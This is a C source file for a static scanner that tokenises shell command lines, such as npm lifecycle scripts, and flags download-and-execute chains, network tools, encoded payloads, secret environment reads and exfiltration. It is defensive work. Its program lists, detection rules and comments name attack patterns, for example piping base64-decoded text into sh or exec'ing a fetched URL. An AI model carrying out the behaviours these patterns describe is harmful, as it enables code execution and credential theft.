/* scan_shell.c - judge a shell command line (an npm lifecycle script value,
 * or a string handed to exec/system/subprocess) without running it.
 *
 * The command is tokenised roughly like a POSIX shell: quotes, backslash
 * escapes, the operators ; && || | & and newlines, redirections, command
 * substitution $(...) / `...` / <(...), which is parsed recursively as
 * a child of the segment it appears in, and `sh -c STRING`, whose string is
 * parsed the same way. Each simple command is a "segment"; segments know
 * the segment they pipe into and the segment they are substituted into
 * (and which word of it). The rules then look at program names and
 * arguments: download-exec, network / process / decode permissions,
 * sensitive reads, host fingerprinting, exfiltration (local data sent by a
 * network tool: uploads, URLs and DNS names built from host data), and
 * encoded payloads, which are decoded and judged in turn (see "encoded
 * payloads" below). */
#include "analyze.h"
#include "bytes.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define SH_MAX_LEN (256u * 1024u) /* longer command lines are judged on this prefix */
#define SH_MAX_TOK 2048
#define SH_MAX_SEG 512
#define SH_MAX_DEPTH 8
#define SH_MAX_FILES 16
#define SH_MAX_TAINT 16
#define SUBST_MARK '\x01' /* stands in a word for the output of a substitution */

enum tok_kind { T_WORD = 0, T_REDIR_OUT, T_REDIR_IN, T_DISCARD };

struct sh_tok {
	size_t at, n; /* text in the arena */
	int seg;
	enum tok_kind kind;
};

struct sh_seg {
	int parent;  /* segment this one is substituted into (or -c of), -1 at top */
	int pipe_to; /* segment its stdout is piped into, -1 if none */
	bool subst;  /* contains $(...), `...` or <(...) */
	bool cstring; /* parsed from the parent's `sh -c STRING`: runs, not substituted */
	int prog;    /* token index of the program, -1 when none */
	int host_tok; /* token of the parent whose SUBST_MARK this substitution fills, -1 */
};

struct sh {
	const char *cmd;
	char *arena;
	size_t an, acap;
	struct sh_tok tok[SH_MAX_TOK];
	int ntok;
	struct sh_seg seg[SH_MAX_SEG];
	int nseg;
	int cur_host; /* host_tok given to segments created now */
	bool oom;
	/* Variables assigned host data (H=$(hostname); U=$USER), see taint(). */
	char taint[SH_MAX_TAINT][64];
	int ntaint;
};

static bool is_ident(unsigned char c)
{
	return (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') || c == '_';
}

/* ---- tokeniser ----------------------------------------------------------- */

static int new_seg(struct sh *p, int parent)
{
	if (p->nseg >= SH_MAX_SEG)
		return p->nseg - 1; /* keep appending to the last one */
	int k = p->nseg++;
	p->seg[k].parent = parent;
	p->seg[k].pipe_to = -1;
	p->seg[k].subst = false;
	p->seg[k].cstring = false;
	p->seg[k].prog = -1;
	p->seg[k].host_tok = parent >= 0 ? p->cur_host : -1;
	return k;
}

/* The arena never moves; bytes beyond its end are dropped, keeping one
 * byte for the terminating NUL of the word being built. */
static void put(struct sh *p, char c)
{
	if (p->an + 1 < p->acap)
		p->arena[p->an++] = c;
}

/* Returns the index of the new token, or -1 when none was added. */
static int add_tok(struct sh *p, size_t at, int seg, enum tok_kind kind)
{
	if (p->ntok >= SH_MAX_TOK || p->an == at || kind == T_DISCARD) {
		p->an = at;
		return -1;
	}
	struct sh_tok *t = &p->tok[p->ntok++];
	t->at = at;
	t->n = p->an - at;
	t->seg = seg;
	t->kind = kind;
	p->arena[p->an] = '\0'; /* an < acap always */
	if (p->an + 1 < p->acap)
		p->an++;
	return p->ntok - 1;
}

static void parse_range(struct sh *p, size_t i, size_t end, int parent, int depth);

/* Index just past the ')' matching the "$(" / "<(" whose '(' is at i. */
static size_t match_paren(const char *c, size_t i, size_t end)
{
	int d = 0;
	char q = 0;
	for (; i < end; i++) {
		char ch = c[i];
		if (q) {
			if (ch == q)
				q = 0;
			else if (ch == '\\' && q == '"')
				i++;
			continue;
		}
		if (ch == '\\') {
			i++;
		} else if (ch == '\'' || ch == '"') {
			q = ch;
		} else if (ch == '(') {
			d++;
		} else if (ch == ')') {
			if (--d == 0)
				return i + 1;
		}
	}
	return end;
}

static size_t match_backtick(const char *c, size_t i, size_t end)
{
	for (i++; i < end; i++) {
		if (c[i] == '\\')
			i++;
		else if (c[i] == '`')
			return i + 1;
	}
	return end;
}

/* A substitution starting at i ("$(", "<(", ">(" or "`"): its body is
 * [*b, *e); returns the index after it. */
static size_t subst_span(const char *c, size_t i, size_t end, size_t *b, size_t *e)
{
	size_t close;
	if (c[i] == '`') {
		close = match_backtick(c, i, end);
		*b = i + 1;
		*e = close > *b && c[close - 1] == '`' ? close - 1 : close;
	} else {
		close = match_paren(c, i + 1, end);
		*b = i + 2;
		*e = close > *b && c[close - 1] == ')' ? close - 1 : close;
	}
	if (*e < *b)
		*e = *b;
	return close;
}

/* The substitution body [b, e) fills a SUBST_MARK of token wtok of seg. */
static void parse_subst(struct sh *p, size_t b, size_t e, int seg, int wtok, int depth)
{
	p->seg[seg].subst = true;
	if (depth < SH_MAX_DEPTH && e > b) {
		int saved = p->cur_host;
		p->cur_host = wtok;
		parse_range(p, b, e, seg, depth + 1);
		p->cur_host = saved;
	}
}

#define SH_MAX_PENDING 16

struct pending {
	size_t b[SH_MAX_PENDING], e[SH_MAX_PENDING];
	int n;
};

static size_t defer_subst(struct sh *p, struct pending *pd, size_t i, size_t end)
{
	size_t b, e;
	size_t close = subst_span(p->cmd, i, end, &b, &e);
	if (pd->n < SH_MAX_PENDING) {
		pd->b[pd->n] = b;
		pd->e[pd->n] = e;
		pd->n++;
	}
	put(p, SUBST_MARK);
	return close;
}

static bool is_meta(char ch)
{
	return ch == ' ' || ch == '\t' || ch == '\n' || ch == '\r' || ch == ';' || ch == '&' ||
	       ch == '|' || ch == '<' || ch == '>' || ch == '(' || ch == ')';
}

/* Read one word at *ip (quotes removed) and add it to seg as a token of
 * kind. Substitutions inside it leave SUBST_MARK in the word and are parsed
 * afterwards as children of seg (the word must be contiguous in the arena). */
static void read_word(struct sh *p, size_t *ip, size_t end, int seg, int depth, enum tok_kind kind)
{
	const char *c = p->cmd;
	size_t i = *ip, at = p->an;
	struct pending pd = {.n = 0};
	while (i < end) {
		char ch = c[i];
		if (is_meta(ch))
			break;
		if (ch == '\\') {
			/* A backslash before a letter, digit or dot escapes nothing
			 * in POSIX: keep it, so Windows paths (C:\Windows\...,
			 * %USERPROFILE%\.ssh) survive. */
			if (i + 1 < end && ((is_ident((unsigned char)c[i + 1]) && c[i + 1] != '_') || c[i + 1] == '.'))
				put(p, ch);
			if (i + 1 < end && c[i + 1] != '\n')
				put(p, c[i + 1]);
			i += 2;
		} else if (ch == '\'') {
			for (i++; i < end && c[i] != '\''; i++)
				put(p, c[i]);
			i++;
		} else if (ch == '"') {
			for (i++; i < end && c[i] != '"';) {
				if (c[i] == '\\' && i + 1 < end &&
				    (c[i + 1] == '"' || c[i + 1] == '\\' || c[i + 1] == '$' || c[i + 1] == '`')) {
					put(p, c[i + 1]);
					i += 2;
				} else if ((c[i] == '$' && i + 1 < end && c[i + 1] == '(' &&
				            !(i + 2 < end && c[i + 2] == '(')) || c[i] == '`') {
					i = defer_subst(p, &pd, i, end);
				} else {
					put(p, c[i++]);
				}
			}
			i++;
		} else if (ch == '$' && i + 1 < end && c[i + 1] == '(') {
			if (i + 2 < end && c[i + 2] == '(') { /* $(( arithmetic )) */
				size_t close = match_paren(c, i + 1, end);
				for (; i < close; i++)
					put(p, c[i]);
			} else {
				i = defer_subst(p, &pd, i, end);
			}
		} else if (ch == '`') {
			i = defer_subst(p, &pd, i, end);
		} else {
			put(p, ch);
			i++;
		}
	}
	*ip = i > end ? end : i;
	int wtok = add_tok(p, at, seg, kind);
	for (int k = 0; k < pd.n; k++)
		parse_subst(p, pd.b[k], pd.e[k], seg, wtok, depth);
}

static void parse_range(struct sh *p, size_t i, size_t end, int parent, int depth)
{
	const char *c = p->cmd;
	int cur = new_seg(p, parent);
	bool word_start = true;
	while (i < end) {
		char ch = c[i];
		if (ch == ' ' || ch == '\t' || ch == '\r') {
			i++;
			word_start = true;
			continue;
		}
		if (ch == '\\' && i + 1 < end && c[i + 1] == '\n') { /* line continuation */
			i += 2;
			continue;
		}
		if (ch == '#' && word_start) { /* comment */
			while (i < end && c[i] != '\n')
				i++;
			continue;
		}
		if (ch == '\n' || ch == ';') {
			i++;
			cur = new_seg(p, parent);
			continue;
		}
		if (ch == '&') {
			if (i + 1 < end && c[i + 1] == '>') { /* &> file */
				i += 2;
				goto redir_out;
			}
			i += (i + 1 < end && c[i + 1] == '&') ? 2 : 1;
			cur = new_seg(p, parent);
			continue;
		}
		if (ch == '|') {
			if (i + 1 < end && c[i + 1] == '|') {
				i += 2;
				cur = new_seg(p, parent);
				continue;
			}
			i += (i + 1 < end && c[i + 1] == '&') ? 2 : 1;
			int nx = new_seg(p, parent);
			if (nx != cur)
				p->seg[cur].pipe_to = nx;
			cur = nx;
			continue;
		}
		if (ch == '(' || ch == ')') {
			i++;
			cur = new_seg(p, parent);
			continue;
		}
		if ((ch == '<' || ch == '>') && i + 1 < end && c[i + 1] == '(') {
			/* Process substitution: the body's output feeds this segment. */
			size_t b, e;
			i = subst_span(c, i, end, &b, &e);
			size_t at = p->an;
			put(p, SUBST_MARK);
			int wtok = add_tok(p, at, cur, T_WORD);
			parse_subst(p, b, e, cur, wtok, depth);
			continue;
		}
		if (ch == '<') {
			if (i + 1 < end && c[i + 1] == '<') { /* here-doc / here-string */
				i += 2;
				while (i < end && (c[i] == '<' || c[i] == '-'))
					i++;
				if (i > 2 && c[i - 1] == '<' && c[i - 2] == '<' && c[i - 3] == '<') {
					/* <<< word: a here-string feeds stdin; keep it as a word */
					while (i < end && (c[i] == ' ' || c[i] == '\t'))
						i++;
					read_word(p, &i, end, cur, depth, T_REDIR_IN);
				} else {
					while (i < end && (c[i] == ' ' || c[i] == '\t'))
						i++;
					read_word(p, &i, end, cur, depth, T_DISCARD); /* the delimiter */
				}
				continue;
			}
			i++;
			while (i < end && (c[i] == ' ' || c[i] == '\t'))
				i++;
			read_word(p, &i, end, cur, depth, T_REDIR_IN);
			continue;
		}
		if (ch == '>' || ((ch >= '0' && ch <= '9') && i + 1 < end && c[i + 1] == '>' && word_start)) {
			if (ch != '>')
				i++;
			i++;
		redir_out:
			while (i < end && (c[i] == '>' || c[i] == '|'))
				i++;
			if (i < end && c[i] == '&') { /* >&2, >&- : fd duplication */
				i++;
				while (i < end && ((c[i] >= '0' && c[i] <= '9') || c[i] == '-'))
					i++;
				if (i < end && !is_meta(c[i])) { /* >& file */
					read_word(p, &i, end, cur, depth, T_REDIR_OUT);
				}
				continue;
			}
			while (i < end && (c[i] == ' ' || c[i] == '\t'))
				i++;
			read_word(p, &i, end, cur, depth, T_REDIR_OUT);
			continue;
		}
		read_word(p, &i, end, cur, depth, T_WORD);
		word_start = false;
	}
}

/* ---- program classification ---------------------------------------------- */

static const char *tok_s(const struct sh *p, int t)
{
	return p->arena + p->tok[t].at;
}

/* Basename of a program path, lowercased into buf, ".exe" stripped. */
static void prog_name(const char *s, size_t n, char *buf, size_t cap)
{
	size_t b = n;
	while (b > 0 && s[b - 1] != '/' && s[b - 1] != '\\')
		b--;
	size_t m = n - b;
	if (m >= cap)
		m = cap - 1;
	for (size_t i = 0; i < m; i++)
		buf[i] = (char)pv_lc((unsigned char)s[b + i]);
	buf[m] = '\0';
	if (m > 4 && strcmp(buf + m - 4, ".exe") == 0)
		buf[m - 4] = '\0';
}

static bool is_assignment(const char *s, size_t n)
{
	if (n == 0 || !((s[0] >= 'A' && s[0] <= 'Z') || (s[0] >= 'a' && s[0] <= 'z') || s[0] == '_'))
		return false;
	for (size_t i = 1; i < n; i++) {
		char ch = s[i];
		if (ch == '=')
			return true;
		if (!((ch >= 'A' && ch <= 'Z') || (ch >= 'a' && ch <= 'z') || (ch >= '0' && ch <= '9') ||
		      ch == '_'))
			return false;
	}
	return false;
}

static bool in_list(const char *name, const char *const *list, size_t n)
{
	for (size_t i = 0; i < n; i++)
		if (strcmp(name, list[i]) == 0)
			return true;
	return false;
}

#define IN(name, list) in_list(name, list, sizeof list / sizeof *list)

static const char *const wrappers[] = {
	"sudo", "doas", "env", "nohup", "time", "exec", "command", "nice", "ionice", "builtin",
	"stdbuf", "timeout", "xargs", "busybox", "run-script-os", "cross-env", "npx", "start",
	"call", "setsid",
	/* shell keywords that precede a command */
	"if", "then", "else", "elif", "do", "while", "until", "!", "{", "}",
};
static const char *const shells[] = {
	"sh", "bash", "zsh", "dash", "ksh", "ash", "fish", "csh", "tcsh", "mksh",
};
static const char *const interpreters[] = {
	"node", "nodejs", "perl", "ruby", "php", "python", "python2", "python3", "pypy",
	"pypy3", "lua", "deno", "bun", "osascript",
};
static const char *const net_progs[] = {
	"curl", "wget", "nc", "ncat", "netcat", "telnet", "ssh", "scp", "sftp", "ftp",
	"tftp", "ping", "nslookup", "dig", "host", "socat", "fetch", "aria2c", "lwp-download",
	"iwr", "invoke-webrequest", "irm", "invoke-restmethod", "bitsadmin", "ping6", "drill",
	"resolve-dnsname", "test-netconnection",
};
static const char *const fingerprint_progs[] = {
	"whoami", "hostname", "uname", "id", "ifconfig", "ipconfig", "systeminfo", "hostnamectl",
	"sw_vers", "lsb_release",
};

enum prog_class {
	P_NONE = 0,
	P_DOWNLOAD = 1,  /* fetches a URL */
	P_NET = 2,       /* uses the network */
	P_SINK = 4,      /* executes what it reads on stdin / its substitution */
	P_SHELL = 8,     /* a shell */
	P_DECODE = 16,   /* base64 -d, xxd -r ... */
	P_FPRINT = 32,   /* host fingerprinting */
	P_ENVDUMP = 64,  /* env, printenv, set */
	P_CHMODX = 128,  /* chmod +x */
	P_POWERSHELL = 256,
};

struct seginfo {
	unsigned cls;
	char name[64];
	int prog;     /* token index */
	int first_arg; /* token index after the program */
};

static bool python_name(const char *name)
{
	if (strncmp(name, "python", 6) != 0)
		return false;
	for (const char *q = name + 6; *q; q++)
		if (!((*q >= '0' && *q <= '9') || *q == '.'))
			return false;
	return true;
}

static bool chmod_mode_x(const char *s)
{
	size_t n = strlen(s);
	if (n == 0)
		return false;
	if (s[0] >= '0' && s[0] <= '7') {
		for (size_t i = 0; i < n; i++) {
			if (s[i] < '0' || s[i] > '7')
				return false;
		}
		for (size_t i = 0; i < n; i++)
			if ((s[i] - '0') & 1)
				return true;
		return false;
	}
	/* symbolic: [ugoa]*[+=][rwxXst]*x */
	const char *q = s;
	while (*q == 'u' || *q == 'g' || *q == 'o' || *q == 'a')
		q++;
	if (*q != '+' && *q != '=')
		return false;
	return strchr(q, 'x') != NULL;
}

/* Fill info for segment k: program, class. */
static void classify(const struct sh *p, int k, struct seginfo *si)
{
	si->cls = P_NONE;
	si->name[0] = '\0';
	si->prog = -1;
	si->first_arg = -1;
	bool after_wrapper = false, win_wrapper = false;
	int wrapper_tok = -1;
	for (int t = 0; t < p->ntok; t++) {
		if (p->tok[t].seg != k || p->tok[t].kind != T_WORD)
			continue;
		const char *s = tok_s(p, t);
		size_t n = p->tok[t].n;
		if (si->prog < 0) {
			if (is_assignment(s, n))
				continue;
			if (after_wrapper && s[0] == '-')
				continue; /* wrapper options: sudo -E, env -i, timeout -s ... */
			if (after_wrapper && n > 0 && s[0] >= '0' && s[0] <= '9')
				continue; /* timeout 10 */
			if (win_wrapper && s[0] == '/' && !memchr(s + 1, '/', n - 1))
				continue; /* start /b, start /min */
			char nm[64];
			prog_name(s, n, nm, sizeof nm);
			if (IN(nm, wrappers)) {
				after_wrapper = true;
				win_wrapper = strcmp(nm, "start") == 0 || strcmp(nm, "call") == 0;
				if (wrapper_tok < 0)
					wrapper_tok = t;
				continue;
			}
			si->prog = t;
			memcpy(si->name, nm, sizeof nm);
			continue;
		}
		if (si->first_arg < 0)
			si->first_arg = t;
	}
	if (si->prog < 0 && wrapper_tok >= 0) {
		/* Only wrappers: "env" / "env -0" alone dumps the environment. */
		si->prog = wrapper_tok;
		prog_name(tok_s(p, wrapper_tok), p->tok[wrapper_tok].n, si->name, sizeof si->name);
	}
	if (si->prog < 0)
		return;
	const char *nm = si->name;
	if (nm[0] == SUBST_MARK || strcmp(nm, "eval") == 0 || strcmp(nm, "source") == 0 ||
	    strcmp(nm, ".") == 0 || strcmp(nm, "iex") == 0 || strcmp(nm, "invoke-expression") == 0)
		si->cls |= P_SINK;
	if (IN(nm, shells))
		si->cls |= P_SINK | P_SHELL;
	if (IN(nm, interpreters) || python_name(nm))
		si->cls |= P_SINK;
	if (strcmp(nm, "powershell") == 0 || strcmp(nm, "pwsh") == 0)
		si->cls |= P_SINK | P_POWERSHELL;
	if (strcmp(nm, "cmd") == 0)
		si->cls |= P_SINK | P_SHELL;
	if (IN(nm, net_progs))
		si->cls |= P_NET;
	if (strcmp(nm, "curl") == 0 || strcmp(nm, "wget") == 0 || strcmp(nm, "fetch") == 0 ||
	    strcmp(nm, "iwr") == 0 || strcmp(nm, "invoke-webrequest") == 0 || strcmp(nm, "irm") == 0 ||
	    strcmp(nm, "invoke-restmethod") == 0 || strcmp(nm, "aria2c") == 0 ||
	    strcmp(nm, "lwp-download") == 0 || strcmp(nm, "bitsadmin") == 0)
		si->cls |= P_DOWNLOAD;
	if (IN(nm, fingerprint_progs))
		si->cls |= P_FPRINT;
	if ((strcmp(nm, "env") == 0 || strcmp(nm, "printenv") == 0 || strcmp(nm, "set") == 0 ||
	     strcmp(nm, "export") == 0) && si->first_arg < 0)
		si->cls |= P_ENVDUMP;
	if (strcmp(nm, "printenv") == 0)
		si->cls |= P_ENVDUMP;
	/* Arguments decide the rest. */
	for (int t = si->first_arg; t >= 0 && t < p->ntok; t++) {
		if (p->tok[t].seg != k || p->tok[t].kind != T_WORD)
			continue;
		const char *a = tok_s(p, t);
		size_t an = p->tok[t].n;
		if (strcmp(nm, "base64") == 0 || strcmp(nm, "openssl") == 0 || strcmp(nm, "gbase64") == 0) {
			if (strcmp(a, "-d") == 0 || strcmp(a, "-D") == 0 || strcmp(a, "--decode") == 0 ||
			    strcmp(a, "-di") == 0 || strcmp(a, "-id") == 0)
				si->cls |= P_DECODE;
		} else if (strcmp(nm, "xxd") == 0) {
			if (a[0] == '-' && strchr(a, 'r'))
				si->cls |= P_DECODE;
		} else if (strcmp(nm, "certutil") == 0) {
			if (pv_ieq(a, an, "-decode") || pv_ieq(a, an, "/decode") || pv_ieq(a, an, "-decodehex"))
				si->cls |= P_DECODE;
			if (pv_ieq(a, an, "-urlcache") || pv_ieq(a, an, "/urlcache") ||
			    pv_ieq(a, an, "-verifyctl") || pv_ieq(a, an, "-split"))
				si->cls |= P_DOWNLOAD | P_NET;
		} else if (strcmp(nm, "chmod") == 0) {
			if (chmod_mode_x(a))
				si->cls |= P_CHMODX;
		} else if (si->cls & P_POWERSHELL) {
			if (pv_icontains(a, an, "downloadstring") || pv_icontains(a, an, "downloadfile") ||
			    pv_icontains(a, an, "downloaddata") || pv_icontains(a, an, "invoke-webrequest") ||
			    pv_icontains(a, an, "invoke-restmethod") || pv_icontains(a, an, "net.webclient") ||
			    pv_icontains(a, an, "iwr ") || pv_icontains(a, an, "irm "))
				si->cls |= P_DOWNLOAD | P_NET;
		}
	}
	if (strcmp(nm, "uudecode") == 0)
		si->cls |= P_DECODE;
}

/* ---- rules --------------------------------------------------------------- */

struct ctx {
	const struct pv_source *src;
	size_t off;
	uint32_t row;
	struct pv_findings *out;
	unsigned emitted; /* bit per reported (attr, reason), once per command line */
	int ndec;         /* payloads decoded for this command line */
};

static void report(struct ctx *x, unsigned bit, const char *attr, const char *detail)
{
	if (x->emitted & bit)
		return;
	x->emitted |= bit;
	pv_emit(x->out, x->src, attr, x->off, x->row, detail);
}

/* Does segment k's output reach a segment with class cls, through pipes
 * (k | a | b) or by being substituted into it ($(k) or <(k))? */
static bool feeds(const struct sh *p, const struct seginfo *si, int k, unsigned cls)
{
	for (int j = p->seg[k].pipe_to, guard = 0; j >= 0 && guard < SH_MAX_SEG; j = p->seg[j].pipe_to, guard++)
		if (si[j].cls & cls)
			return true;
	/* Substituted into a parent (possibly via a pipe chain inside it). */
	for (int a = k, guard = 0; a >= 0 && guard < SH_MAX_DEPTH * 2; guard++) {
		int par = p->seg[a].parent;
		if (par < 0 || p->seg[a].cstring)
			break;
		if (si[par].cls & cls)
			return true;
		for (int j = p->seg[par].pipe_to, g2 = 0; j >= 0 && g2 < SH_MAX_SEG; j = p->seg[j].pipe_to, g2++)
			if (si[j].cls & cls)
				return true;
		a = par;
	}
	return false;
}

static const char *basename_of(const char *s)
{
	const char *b = s;
	for (const char *q = s; *q; q++)
		if (*q == '/' || *q == '\\')
			b = q + 1;
	return b;
}

static bool same_base(const char *a, const char *b)
{
	a = basename_of(a);
	b = basename_of(b);
	size_t n = strlen(a);
	if (n == 0 || strlen(b) != n)
		return false;
	for (size_t i = 0; i < n; i++)
		if (pv_lc((unsigned char)a[i]) != pv_lc((unsigned char)b[i]))
			return false;
	return true;
}

/* File name a URL would be saved under by wget / curl -O: last path
 * component, query stripped. */
static void url_basename(const char *url, char *buf, size_t cap)
{
	size_t n = strcspn(url, "?#");
	const char *s = strstr(url, "://");
	size_t start = s ? (size_t)(s - url) + 3 : 0;
	size_t b = n;
	while (b > start && url[b - 1] != '/')
		b--;
	if (b == start) { /* no path: wget saves index.html */
		buf[0] = '\0';
		return;
	}
	size_t m = n - b;
	if (m >= cap)
		m = cap - 1;
	memcpy(buf, url + b, m);
	buf[m] = '\0';
}

static bool looks_url(const char *s)
{
	return strstr(s, "://") != NULL;
}

struct files {
	char name[SH_MAX_FILES][128];
	int n;
};

static void add_file(struct files *f, const char *name)
{
	if (f->n >= SH_MAX_FILES || !name[0] || strcmp(name, "-") == 0 ||
	    strcmp(name, "/dev/null") == 0 || strcmp(name, "NUL") == 0 || name[0] == SUBST_MARK)
		return;
	snprintf(f->name[f->n++], sizeof f->name[0], "%s", name);
}

/* Files a downloading segment writes. */
static void download_targets(const struct sh *p, int k, const struct seginfo *si, struct files *f)
{
	const char *nm = si->name;
	bool is_curl = strcmp(nm, "curl") == 0, is_wget = strcmp(nm, "wget") == 0;
	bool remote_name = false, explicit_out = false;
	const char *url = NULL;
	const char *last = NULL;
	for (int t = si->prog + 1; t < p->ntok; t++) {
		if (p->tok[t].seg != k)
			continue;
		const char *a = tok_s(p, t);
		if (p->tok[t].kind == T_REDIR_OUT) {
			add_file(f, a);
			explicit_out = true;
			continue;
		}
		if (p->tok[t].kind != T_WORD)
			continue;
		if (looks_url(a) && !url)
			url = a;
		last = a;
		const char *next = NULL;
		for (int u = t + 1; u < p->ntok; u++)
			if (p->tok[u].seg == k && p->tok[u].kind == T_WORD) {
				next = tok_s(p, u);
				break;
			}
		if (is_curl) {
			if (strcmp(a, "--output") == 0 || strcmp(a, "-o") == 0) {
				if (next)
					add_file(f, next);
				explicit_out = true;
			} else if (strncmp(a, "--output=", 9) == 0) {
				add_file(f, a + 9);
				explicit_out = true;
			} else if (strcmp(a, "--remote-name") == 0 || strcmp(a, "--remote-name-all") == 0) {
				remote_name = true;
			} else if (a[0] == '-' && a[1] != '-' && a[1]) {
				/* short option cluster: -sSLo FILE, -fsSLO */
				size_t m = strlen(a);
				if (strchr(a + 1, 'O'))
					remote_name = true;
				if (a[m - 1] == 'o' && next) {
					add_file(f, next);
					explicit_out = true;
				} else if (strchr(a + 1, 'o')) {
					const char *o = strchr(a + 1, 'o');
					if (o[1]) {
						add_file(f, o + 1);
						explicit_out = true;
					}
				}
			}
		} else if (is_wget) {
			if (strcmp(a, "-O") == 0 || strcmp(a, "--output-document") == 0) {
				if (next)
					add_file(f, next);
				explicit_out = true;
			} else if (strncmp(a, "--output-document=", 18) == 0) {
				add_file(f, a + 18);
				explicit_out = true;
			} else if (strncmp(a, "-O", 2) == 0) {
				add_file(f, a + 2);
				explicit_out = true;
			} else if (a[0] == '-' && a[1] != '-' && a[1] && a[strlen(a) - 1] == 'O') {
				if (next)
					add_file(f, next);
				explicit_out = true;
			}
		} else {
			/* PowerShell / iwr: -OutFile F; certutil / bitsadmin: last argument. */
			if ((pv_ieq(a, strlen(a), "-outfile") || pv_ieq(a, strlen(a), "-o")) && next)
				add_file(f, next);
		}
	}
	if (url && (remote_name || (is_wget && !explicit_out))) {
		char b[128];
		url_basename(url, b, sizeof b);
		add_file(f, b);
	}
	if ((strcmp(nm, "certutil") == 0 || strcmp(nm, "bitsadmin") == 0 || strcmp(nm, "aria2c") == 0 ||
	     strcmp(nm, "lwp-download") == 0 || strcmp(nm, "fetch") == 0) && last && !looks_url(last) &&
	    last[0] != '-' && last[0] != '/')
		add_file(f, last);
	if ((strcmp(nm, "certutil") == 0 || strcmp(nm, "bitsadmin") == 0 || strcmp(nm, "lwp-download") == 0) &&
	    last && !looks_url(last) && last[0] == '/' && last[1])
		add_file(f, last);
	if ((strcmp(nm, "aria2c") == 0 || strcmp(nm, "fetch") == 0) && url && !explicit_out) {
		char b[128];
		url_basename(url, b, sizeof b);
		add_file(f, b);
	}
}

static bool names_file(const struct files *f, const char *s)
{
	for (int i = 0; i < f->n; i++)
		if (same_base(f->name[i], s))
			return true;
	return false;
}

/* Does segment k (after a download) run or chmod +x a downloaded file? */
static bool uses_file(const struct sh *p, int k, const struct seginfo *si, const struct files *f)
{
	if (si->prog < 0 || f->n == 0)
		return false;
	const char *prog = tok_s(p, si->prog);
	if (names_file(f, prog))
		return true; /* ./payload */
	bool runner = (si->cls & (P_SINK | P_CHMODX)) || strcmp(si->name, "start-process") == 0 ||
	              strcmp(si->name, "saps") == 0 || strcmp(si->name, "open") == 0 ||
	              strcmp(si->name, "rundll32") == 0 || strcmp(si->name, "regsvr32") == 0 ||
	              strcmp(si->name, "msiexec") == 0 || strcmp(si->name, "wscript") == 0 ||
	              strcmp(si->name, "cscript") == 0 || strcmp(si->name, "mshta") == 0;
	if (!runner)
		return false;
	for (int t = si->prog + 1; t < p->ntok; t++) {
		if (p->tok[t].seg != k || p->tok[t].kind == T_REDIR_OUT)
			continue;
		const char *a = tok_s(p, t);
		if (names_file(f, a))
			return true;
		/* rundll32 payload.dll,Entry */
		const char *comma = strchr(a, ',');
		if (comma) {
			char b[128];
			size_t m = (size_t)(comma - a);
			if (m < sizeof b) {
				memcpy(b, a, m);
				b[m] = '\0';
				if (names_file(f, b))
					return true;
			}
		}
	}
	return false;
}

/* "$NAME" / "${NAME}" / "%NAME%" references to secret env vars in a word. */
static bool secret_var_ref(const char *s, size_t n, char *name, size_t cap)
{
	for (size_t i = 0; i < n; i++) {
		size_t b, e;
		if (s[i] == '$') {
			b = i + 1;
			if (b < n && s[b] == '{')
				b++;
		} else if (s[i] == '%') {
			b = i + 1;
		} else {
			continue;
		}
		e = b;
		while (e < n && ((s[e] >= 'A' && s[e] <= 'Z') || (s[e] >= 'a' && s[e] <= 'z') ||
		                 (s[e] >= '0' && s[e] <= '9') || s[e] == '_'))
			e++;
		if (s[i] == '%' && (e >= n || s[e] != '%'))
			continue;
		if (e > b && pv_is_secret_env_name(s + b, e - b)) {
			size_t m = e - b < cap - 1 ? e - b : cap - 1;
			memcpy(name, s + b, m);
			name[m] = '\0';
			return true;
		}
	}
	return false;
}

/* node -e / python -c CODE where CODE fetches a URL and evaluates it:
 * python -c "exec(urllib.request.urlopen('http://…').read())". */
static bool inline_fetch_eval(const struct sh *p, int k, const struct seginfo *si)
{
	bool code_next = false;
	for (int t = si->prog + 1; t < p->ntok; t++) {
		if (p->tok[t].seg != k || p->tok[t].kind != T_WORD)
			continue;
		const char *a = tok_s(p, t);
		size_t an = p->tok[t].n;
		if (code_next) {
			bool fetch = pv_icontains(a, an, "urlopen") || pv_icontains(a, an, "urllib") ||
			             pv_icontains(a, an, "requests.get") || pv_icontains(a, an, "http.get") ||
			             pv_icontains(a, an, "https.get") || pv_icontains(a, an, "fetch(") ||
			             pv_icontains(a, an, "require('http") || pv_icontains(a, an, "require(\"http") ||
			             pv_icontains(a, an, "require('axios") || pv_icontains(a, an, "require(\"axios") ||
			             pv_icontains(a, an, "httpx.get") || pv_icontains(a, an, "net::http") ||
			             pv_icontains(a, an, "lwp::simple") || pv_icontains(a, an, "file_get_contents('http");
			bool run = pv_icontains(a, an, "exec(") || pv_icontains(a, an, "eval(") ||
			           pv_icontains(a, an, "eval ") || pv_icontains(a, an, "new function") ||
			           pv_icontains(a, an, "runinthiscontext") || pv_icontains(a, an, "system(") ||
			           pv_icontains(a, an, "spawn(") || pv_icontains(a, an, "execsync(");
			if (fetch && run)
				return true;
			code_next = false;
			continue;
		}
		if (strcmp(a, "-c") == 0 || strcmp(a, "-e") == 0 || strcmp(a, "--eval") == 0 ||
		    strcmp(a, "-p") == 0 || strcmp(a, "--print") == 0 || strcmp(a, "-r") == 0)
			code_next = true;
	}
	return false;
}

enum {
	B_DLEXEC = 1u << 0,
	B_NET = 1u << 1,
	B_PROC = 1u << 2,
	B_SENS = 1u << 3,
	B_FPRINT = 1u << 4,
	B_OBF = 1u << 5,
	B_DECODE = 1u << 6,
	B_ENVSENS = 1u << 7,
	B_DEVTCP = 1u << 8,
	B_PSENC = 1u << 9,
	B_EXFIL = 1u << 10,
	B_PSNET = 1u << 11,
	B_PSPROC = 1u << 12,
};

/* ---- encoded payloads ------------------------------------------------------
 * A literal payload that is decoded and run (echo B64 | base64 -d | sh,
 * powershell -enc B64, python -c "exec(base64.b64decode('...'))") is
 * decoded here and the decoded text is judged like any other code; its
 * findings are reported at the command's location, marked "decoded: ".
 * Everything is bounded: bytes per payload, nesting (the decoded text may
 * decode again, also through the Python / JavaScript analysers, which call
 * back into this file), decodes per command line, and decoded bytes per
 * top-level command line. */

#define DEC_MAX (64u * 1024u)       /* bytes of one decoded payload */
#define DEC_IN_MAX (DEC_MAX / 3 * 4 + 64) /* encoded characters read for one payload */
#define DEC_DEPTH 3                 /* nested decoded scans */
#define DEC_PER_CMD 16              /* decodes per command line */
#define DEC_TOTAL (1024u * 1024u)   /* decoded bytes per top-level command line */
